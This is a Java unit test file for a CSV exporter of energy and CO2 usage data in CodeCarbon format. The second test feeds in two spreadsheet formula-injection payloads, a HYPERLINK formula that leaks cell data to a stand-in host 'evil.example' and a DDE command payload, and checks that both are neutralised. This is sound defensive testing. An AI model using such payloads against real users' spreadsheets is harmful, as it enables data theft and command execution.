package io.wattkeeper.operator.export;

import static org.assertj.core.api.Assertions.assertThat;

import io.wattkeeper.operator.ledger.UsageSnapshot;
import io.wattkeeper.operator.ledger.UsageTotals;
import io.wattkeeper.operator.period.Period;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import org.junit.jupiter.api.Test;

class CodeCarbonCsvTest {

  @Test
  void headerIsCodeCarbonsAndUnitsAreKWhKgWattsSeconds() {
    assertThat(String.join(",", CodeCarbonCsv.HEADER))
        .isEqualTo(
            "timestamp,project_name,run_id,experiment_id,duration,emissions,emissions_rate,cpu_power,gpu_power,ram_power,cpu_energy,gpu_energy,ram_energy,energy_consumed,water_consumed,country_name,country_iso_code,region,cloud_provider,cloud_region,os,python_version,codecarbon_version,cpu_count,cpu_model,gpu_count,gpu_model,longitude,latitude,ram_total_size,tracking_mode,cpu_utilization_percent,gpu_utilization_percent,ram_utilization_percent,ram_used_gb,on_cloud,pue,wue");
    UsageTotals t = new UsageTotals();
    t.cpuWh = 120; // PUE 1.2 included: 100 Wh IT over one hour = 100 W
    t.gpuWh = 1200;
    t.energyWh = 1320;
    t.co2eGrams = 500;
    t.measuredWh = 1320;
    Instant first = Instant.parse("2026-09-15T10:00:00Z");
    UsageSnapshot s =
        new UsageSnapshot(
            "ml",
            "budget",
            new Period(first, first.plusSeconds(86400), ZoneOffset.UTC, false),
            1.2,
            List.of(
                new UsageSnapshot.Row(
                    "uid-1", "ml", "trainer", "n1", "DE", t, first, first.plusSeconds(3600))));
    String[] lines = CodeCarbonCsv.write(s, true).split("\n");
    assertThat(lines[0]).endsWith(",pue,wue,measured_fraction,node,pod,requests,generated_tokens");
    assertThat(lines[1]).endsWith(",trainer,,"); // no counts reported: unknown, not 0
    String[] row = lines[1].split(",", -1);
    assertThat(row[0]).isEqualTo("2026-09-15T11:00:00");
    assertThat(row[1]).isEqualTo("ml/budget");
    assertThat(row[2]).isEqualTo("uid-1");
    assertThat(row[4]).isEqualTo("3600");
    assertThat(row[5]).isEqualTo("0.5");
    assertThat(row[7]).isEqualTo("100");
    assertThat(row[8]).isEqualTo("1000");
    assertThat(row[13]).isEqualTo("1.32");
    assertThat(row[14]).isEmpty(); // water: unknown, not zero
    assertThat(row[16]).isEqualTo("DE");
    assertThat(row[36]).isEqualTo("1.2");
    assertThat(io.wattkeeper.api.codecarbon.EmissionsCsvColumns.escape("trainer,v2"))
        .isEqualTo("\"trainer,v2\"");
    assertThat(io.wattkeeper.api.codecarbon.EmissionsCsvColumns.escape("say \"hi\""))
        .isEqualTo("\"say \"\"hi\"\"\"");
    assertThat(CodeCarbonCsv.write(s, false).split("\n")[1].split(",", -1)).hasSize(38);
  }

  /**
   * A budget's zone and a node's grid-zone annotation end up in the region column: formulas there
   * are neutralised (OWASP), while negative numbers in numeric columns stay numbers.
   */
  @Test
  void formulaZonesAreNeutralisedInTheRegionColumn() {
    String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    String dde = "@SUM(1+1)*cmd|' /C calc'!A0";
    Instant first = Instant.parse("2026-09-15T10:00:00Z");
    UsageTotals t = new UsageTotals();
    t.energyWh = 10;
    t.cpuWh = -2; // a counter correction: numeric, must stay a number
    UsageSnapshot s =
        new UsageSnapshot(
            "ml",
            "budget",
            new Period(first, first.plusSeconds(86400), ZoneOffset.UTC, false),
            1.0,
            List.of(
                new UsageSnapshot.Row(
                    "uid-1", "ml", "a", "-n1", hyperlink, t, first, first.plusSeconds(60)),
                new UsageSnapshot.Row(
                    "uid-2", "ml", "b", "n2", dde, t, first, first.plusSeconds(60))));
    String csv = CodeCarbonCsv.write(s, true);
    assertThat(csv)
        .contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",")
        .contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\",")
        .contains(",\"'-n1\",")
        .doesNotContain(",=HYPERLINK")
        .doesNotContain(",@SUM");
    String[] row = csv.split("\n")[2].split(",", -1);
    assertThat(row[10]).isEqualTo("-0.002"); // cpu_energy in kWh
    for (String line : csv.split("\n")) {
      for (String cell : line.split(",", -1)) {
        assertThat(cell).doesNotMatch("^[=+@\t\r].*");
      }
    }
  }
}
